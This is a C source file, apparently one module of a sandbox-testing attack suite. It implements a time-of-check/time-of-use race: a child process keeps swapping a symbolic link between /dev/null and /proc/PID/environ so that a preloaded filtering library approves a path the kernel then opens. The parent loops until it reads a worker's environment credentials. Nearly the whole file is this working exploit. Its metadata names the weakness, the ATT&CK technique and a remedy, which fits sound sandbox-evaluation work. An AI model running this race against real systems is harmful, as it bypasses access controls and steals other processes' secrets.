// SPDX-License-Identifier: MIT
/*
 * swapped-link.c - between the check of a path and its use.
 *
 * Goal:  the worker's credentials, past a preloaded library that resolves a path and compares then.
 * Means: a symbolic link that a child keeps exchanging with another one: sooner or later it leads
 *        to /dev/null while the library looks, and to /proc/PID/environ when the kernel does.
 *
 *     child    exchange(link, other) for ever
 *     parent   open(link); what it holds is the quarry? .. again, for some seconds at most
 */
#include "attacks/preload-evasion/quarry.h"

#include <fcntl.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <time.h>

#define SECONDS 2

static enum claim run(const struct brief *b)
{
	char folder[] = "./swap-XXXXXX";
	struct timespec start, now;
	bool robbed = false;
	pid_t child;

	if (!mkdtemp(folder) || chdir(folder) || symlink("/dev/null", "link") ||
	    symlink(quarry(b), "other"))
		return failed("make two symbolic links");
	attempting(b);
	if (!worker_in_sight(b))
		return denied("find the worker");
	child = fork();
	if (!child) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		alarm(SECONDS + 1); /* an end of its own, whoever is dead or not */
		for (;;)
			renameat2(AT_FDCWD, "link", AT_FDCWD, "other", RENAME_EXCHANGE);
	}
	if (child < 0)
		return denied("fork");
	clock_gettime(CLOCK_MONOTONIC, &start);
	do {
		robbed = loot_environ(open("link", O_RDONLY | O_CLOEXEC));
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (!robbed && now.tv_sec - start.tv_sec < SECONDS);
	kill(child, SIGKILL);
	while (waitpid(child, NULL, 0) < 0 && errno == EINTR)
		;
	return robbed ? CLAIM_DONE : denied("open a link that changes");
}

const struct attack attack = {
	.effect = "a file that a preloaded library should refuse is read",
	.means = "a symbolic link exchanged between the library's check and the kernel's look",
	.oracle = "secret:environ",
	.id = "LPS-11",
	.attack_id = "T1003.007, CWE-367",
	.remedy = "Landlock, which judges the file when it is opened",
	.refs = (const char *const[]){ "renameat2(2), RENAME_EXCHANGE", NULL },
	.run = run,
};
